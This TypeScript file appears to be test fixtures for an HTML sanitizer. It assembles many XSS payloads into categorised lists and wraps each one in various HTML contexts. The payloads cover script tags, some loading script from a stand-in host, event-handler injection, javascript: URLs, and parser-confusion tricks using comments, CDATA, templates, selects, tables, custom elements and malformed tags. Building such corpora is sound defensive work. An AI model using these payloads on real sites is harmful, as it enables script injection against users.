import type { Attacks } from '../attack-classes.js';
import { HARMFUL, IMAGE, product } from './product.js';
import { TAG_SPELLINGS } from './spellings.js';

const inContexts = (contexts: readonly string[], markup: readonly string[]) =>
  product(contexts, markup).map(([context, text]) => context.replace('*', () => text));

const CONTEXTS = [
  '*',
  '<p>*</p>',
  '<ul><li>*</ul>',
  '<table><tr><td>*</table>',
  'x<b>*',
  '<a href="/a">*',
];

const SCRIPTS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://x.example/a.js></SCRIPT>',
  '<SCRIPT SRC=//x.example/.j>',
  '<script src="https://x.example/a.jpg"></script>',
  '<script type=module>import "https://x.example/a.js"</script>',
  '<script type="text/vbscript">msgbox 1</script>',
  '<script type=importmap>{}</script>',
  '<script type=speculationrules>{}</script>',
  '<script nomodule async defer>alert(1)</script>',
  '<script>document.write("<SCRI");</script>PT SRC="https://x.example/a.js"></SCRIPT>',
  '</script><script>alert(1)</script>',
  '\\";alert(1);//',
  '<script>x="\\\\";alert(1);//";</script>',
  '<script>alert(1)//',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
];

const COMMENTS = [
  '<!--*-->',
  '<!-->*-->',
  '<!--->*-->',
  '<!---->*<!---->',
  '<!--x--!>*-->',
  '<!--x-->*',
  '<!-- --\n>*-->',
  '<!--<!-->*-->',
  '<!-- <!-- -->*-->',
  '<!--x*',
  '<!-*->',
  '<!*>',
  '<!>*',
  '</!--*-->',
  '<!--[if gte IE 4]>*<![endif]-->',
  '<!--[if !IE]><!-->*<!--<![endif]-->',
  '<![if IE]>*<![endif]>',
  '<!--\0-->*',
  '<!--`*`-->',
  '<p title="<!--">*</p><p title="-->">',
  '<a href="<!--">*</a>-->',
  '<style><!--</style>*-->',
];

const DECLARATIONS = [
  '<![CDATA[*]]>',
  '<svg><![CDATA[*]]></svg>',
  '<math><![CDATA[><]]>*</math>',
  '<svg><![CDATA[</svg>*]]>',
  '<![CDATA[x]]>*',
  '<?xml version="1.0"?>*',
  '<?php echo("*") ?>',
  '<? * ?>',
  '<?import namespace="t" implementation="#default#time2"><t:set attributeName="innerHTML" to="*">',
  '<?xml:namespace prefix="t" ns="urn:schemas-microsoft-com:time">*',
  '<?xml-stylesheet href="javascript:alert(1)"?>*',
  '<?*?>',
  '<!DOCTYPE html>*',
  '<!DOCTYPE html SYSTEM "x">*',
  '<!DOCTYPE x [<!ENTITY y "*">]>&y;',
  '<!ENTITY x "*">',
  '<!ELEMENT *>',
  '<!ATTLIST img onerror CDATA "alert(1)">*',
  '</*>',
  '</ *>',
  '<//*>',
  '<%*%>',
];

const TEMPLATES = [
  '<template>*</template>',
  '<template><template>*</template>',
  '<template></template>*',
  '<template>*',
  '</template>*',
  '<div><template shadowrootmode=open>*</template></div>',
  '<div><template shadowrootmode=closed><slot></slot>*</template>x</div>',
  '<p><template shadowrootmode="open" shadowrootclonable>*</template>',
  '<div><template shadowroot=open>*</template></div>',
  '<template><tr><td>*</template>',
  '<table><template>*</table>',
  '<svg><template>*</template></svg>',
  '<template>{{*}}</template>',
  '<template><a>{{</a>*<a>}}</a></template>',
  '<select><template>*</template></select>',
  '<template><script>alert(1)</script>*</template>',
  '<slot name=x>*</slot>',
  '<p slot="x" part="y" exportparts="z">*</p>',
];

const SELECTS = [
  '<select>*</select>',
  '<select><option>*</option></select>',
  '<select><option>&lt;img src=x onerror=alert(1)&gt;</option></select>*',
  '<select><button><selectedcontent>*</selectedcontent></button><option selected>*</select>',
  '<select><option selected=javascript:1><selectedcontent>*</selectedcontent></option></select>',
  '<select><style><!--</style>*--></select>',
  '<select><svg><style><a title="</style>*">',
  '<select><template>*</template></select>',
  '<select><keygen><table><select>*',
  '<select><input>*',
  '<optgroup label="*">x</optgroup>',
  '<datalist><option>*</datalist>',
  '<table><select><tr><td>*',
  '<select><textarea></select>*</textarea>',
  '<selectedcontent>*</selectedcontent>',
];

const TABLES = [
  '<table>*',
  '<table>*<tr><td>x</table>',
  '<table><tr>*<td>x</table>',
  '<table><tbody>*</table>',
  '<table><caption>*</table>',
  '<table><colgroup>*<col></table>',
  '<table><col onload=alert(1)>*</table>',
  '<table><td><table>*</table></table>',
  '<table><input type=hidden onfocus=alert(1)>*',
  '<table><form>*<tr><td></form></table>',
  '<table><a href="/a">*<tr><td><a href="/b">',
  '<table><script>alert(1)</script>*</table>',
  '<table><style>*</style></table>',
  '<tr><td>*</td></tr>',
  '<td>*',
  '<table><p><b>*</table></b></p>',
  '<table><svg><tr>*</svg></table>',
  '<table><math><mtext><tr>*',
];

const CUSTOM_ELEMENTS = [
  ...[
    '<x-y onclick=alert(1)>*</x-y>',
    '<xss style="xss:expression(alert(1))">*',
    '<p is="x-y">*</p>',
  ],
  ...[
    '<a is=x-link href=javascript:x>*</a>',
    '<img is=x-y src=x onerror=alert(1)>',
    '<x-y src=javascript:x>*',
  ],
  ...[
    '<annotation-xml onclick=x>*',
    '<font-face>*',
    '<missing-glyph>*',
    '<x.y onload=x>*',
    '<x_y>*',
    '<x:y>*',
  ],
  ...[
    '<unknown autofocus onfocus=alert(1) tabindex=1>*',
    '<button is=x-y>*',
    '<constructor-x>*',
    '<a-\u00e9>*',
  ],
  ...[
    '<image src=x onerror=alert(1)>*',
    '<foreignObject>*',
    '<mi>*',
    '<marquee onstart=alert(1)>*</marquee>',
  ],
  ...[
    '<blink>*',
    '<dialog open onclose=x>*</dialog>',
    '<search>*',
    '<p popover=auto popovertarget=x>*</p>',
  ],
  ...[
    '<p contenteditable autofocus onfocus=alert(1)>*</p>',
    '<p inert hidden accesskey=x onclick=alert(1)>*</p>',
  ],
];

const MALFORMED = [
  ...[
    '<img src=x onerror=alert(1)',
    '<img src=x onerror=alert(1) <',
    '<img src=x onerror="alert(1)',
    '<<script>x//<</script>',
  ],
  ...[
    '<img """><script>alert(1)</script>">',
    '\\<a onmouseover="alert(1)"\\>x\\</a\\>',
    '<a onmouseover=alert(1)>x</a',
  ],
  ...[
    '<script src=https://x.example/a.js?< b >',
    '<iframe src=https://x.example/a.html <',
    '<img src="`<javascript:alert(1)>`"',
  ],
  ...[
    '<body onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>',
    '<script/xss src="https://x.example/a.js"></script>',
    '<svg/onload=alert(1)',
  ],
  ...[
    '<a href="javascript:alert(1)',
    '<a href=javascript:alert(1) ',
    '<p onclick=alert(1',
    '<',
    '</',
    '<a',
    '<a ',
    '<a/',
    '<a =',
    '<img/',
  ],
  ...[
    '<a b<img src=x onerror=alert(1)>',
    '<a "<img src=x onerror=alert(1)>">',
    '<p></p/onclick=x><img src=x onerror=alert(1)>',
    '<p/>x</p>',
  ],
  ...[
    '<img src=/a alt="<p" title="onerror=alert(1)">',
    '<3<img src=x onerror=alert(1)>',
    'a<b>c<d onclick=x>e',
    '<\u00e9 onclick=x>y',
    '<1>x',
  ],
];

export const MARKUP_ATTACKS: Attacks = {
  'script element': inContexts(CONTEXTS, SCRIPTS),
  comment: [
    ...inContexts(COMMENTS, HARMFUL),
    ...['<!-- ', '<!', '-->', '<!--<!--', '--!>'].map((unit) => `${unit.repeat(3_000)}${IMAGE}`),
  ],
  'processing instruction, CDATA or doctype': inContexts(DECLARATIONS, HARMFUL),
  'template or shadow root': inContexts(TEMPLATES, HARMFUL),
  select: inContexts(SELECTS, HARMFUL),
  table: inContexts(TABLES, HARMFUL),
  'custom element': inContexts(CUSTOM_ELEMENTS, HARMFUL),
  'malformed tag': [
    ...inContexts(CONTEXTS, MALFORMED),
    ...['script', 'iframe', 'svg', 'style', 'img'].flatMap((name) =>
      TAG_SPELLINGS.map(
        (spell) => `<${spell(name)} src=x onerror=alert(1) onload=alert(1)>x</${name}>${IMAGE}`,
      ),
    ),
    ...TAG_SPELLINGS.map((spell) => `<textarea>x</${spell('textarea')}>${IMAGE}`),
  ],
};
